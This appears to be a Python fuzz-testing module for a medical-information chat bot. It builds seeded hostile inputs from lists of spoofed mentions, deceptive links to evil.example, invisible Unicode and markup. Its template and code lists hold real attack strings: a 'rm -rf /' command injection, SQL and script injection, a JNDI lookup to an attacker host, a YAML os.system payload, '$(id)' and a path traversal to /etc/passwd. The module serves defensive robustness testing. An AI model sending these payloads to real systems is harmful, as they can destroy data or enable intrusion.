"""Strings that somebody might type to make the bot ping, link, format, crash, hang, or repeat after them."""

from __future__ import annotations

import random
from collections.abc import Iterator

LONGEST = 6_000
MENTIONS = (
    "<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "<#123456789012345678>", "@everyone",
    "@here", "<id:customize>", "</trial:123456789012345678>", "<:zebra:123456789012345678>", "<t:1700000000:R>",
    "@\u200beveryone", "<@\u200b123456789012345678>", "＠everyone", "﹫here",
)  # fmt: skip
LINKS = (
    "[free pills](https://evil.example)", "[https://clinicaltrials.gov](https://evil.example)", "<https://evil.example>",
    "https://evil.example/?q=[x](y)", "https://clinicaltrials.gov.evil.example/study/NCT02678780", "evil.example/x",
    "https://user:pass@evil.example", "javascript:alert(1)", "[x]: https://evil.example", "(https://evil.example)",
    "https://ev\u200bil.example", "https://evil.example/\u202egpj.exe", "discord://evil.example", "HTTPS://EVIL.EXAMPLE",
    "[evil](<https://evil.example>)", "[a](https://evil.example \"title\")", "ｈｔｔｐｓ://evil.example",
)  # fmt: skip
INVISIBLE = (
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u200e", "\u061c", "\u200b", "\u200c", "\u200d", "\ufeff",
    "\u2060", "\u00ad", "\u034f", "\u180e", "\U000e0061\U000e0062", "\ufe0f", "\u2028", "\u2029", "\u0085", "\u3164",
    "\u115f", "\uffa0", "\u2800",
)  # fmt: skip
CONTROLS = (
    *(chr(n) for n in range(32)),
    *(chr(n) for n in range(127, 160)),
    "\ud800",
    "\udfff",
    "\uffff",
    "\U0010ffff",
)
MARKUP = (
    "**b**", "||secret||", "```py\nx\n```", "`x`", "\n# big", "\n> said", "\n>>> said", "\n-# small", "~~s~~", "__u__",
    "\n1. a", "\n- x", "\\", "\\\\*", "***", "_", "|", "<", ">", "[", "]", "(", ")", "](", "![x](y)", "<a:b:1>",
)  # fmt: skip
TEMPLATES = (
    "{0}", "{question.asked}", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n%d", "%(name)s", "<%= 7*7 %>",
    "{catalogue.known.__class__}", "#{7*7}", "{% raw %}", "$(id)", "`id`", "\\N{BULLET}", "\\x41",
)  # fmt: skip
CODE = (
    "; rm -rf /", "' OR 1=1 --", "<script>alert(1)</script>", "&lt;b&gt;", "!!python/object/apply:os.system ['id']", "*a",
    "&a [*a,*a]", "../../etc/passwd", "\\\\host\\share", "/dev/zero", "\x1b[31mred\x1b[0m", "(a+)+$", "[[:alpha:]]",
)  # fmt: skip
BUTTONS = (
    "q:t:lenvatinib::1", "p:d:everolimus:side-effects:2", "q:r:abc.def::1", "q:x:t~talent::1", "t~lenvatinib", "a~b", "~",
    "Afinitor (brand) → everolimus", "→", "x → <@123456789012345678>", "→ everolimus", "....", "a.b.c.d",
)  # fmt: skip
NAMES = (
    "lenvatinib", "afinitor", "everolimus 10mg", "NCT02678780", "NCT０２６７８７８０", "NCT1", "TALENT", "PRRT", "lanreotide",
    "vapreotide", "sutent and afinitor", "what is", "compare", "questions about a", "Norway", "hello", "help", "ﬁnd", "ı", "ẞ",
    "İ", "Ⅳ", "²", "٣", "ﷺ", "zebra 🦓", "👩‍👩‍👧", "everolimus vs sunitinib", "177Lu-DOTATATE", "-tinib", "mab",
)  # fmt: skip
EVERY = (MENTIONS, LINKS, INVISIBLE, CONTROLS, MARKUP, TEMPLATES, CODE, BUTTONS, NAMES)


def hostile(count: int, seed: int = 7) -> Iterator[str]:
    """So many strings of at most 6,000 characters, the same ones each time."""
    chance = random.Random(seed)
    for number in range(count):
        if number % 20 == 0:
            yield _long(chance)
        elif number % 20 == 1:
            yield _zalgo(chance.choice(chance.choice((NAMES, MARKUP, LINKS))), chance)
        else:
            pieces = [chance.choice(chance.choice(EVERY)) for _ in range(chance.randint(1, 7))]
            yield chance.choice(("", " ", "\n", "  ")).join(pieces)[:LONGEST]


def _long(chance: random.Random) -> str:
    piece = chance.choice(chance.choice(EVERY)) + chance.choice(("", " ", "\n", "-", ","))
    if chance.random() < 0.4:
        words = [chance.choice(chance.choice(EVERY)) for _ in range(1_500)]
        return " ".join(words)[:LONGEST]
    return (piece * (LONGEST // len(piece) + 1))[:LONGEST]


def _zalgo(text: str, chance: random.Random) -> str:
    marks = [chr(n) for n in range(0x300, 0x370)]
    return "".join(c + "".join(chance.choices(marks, k=chance.randint(0, 30))) for c in text)[:LONGEST]
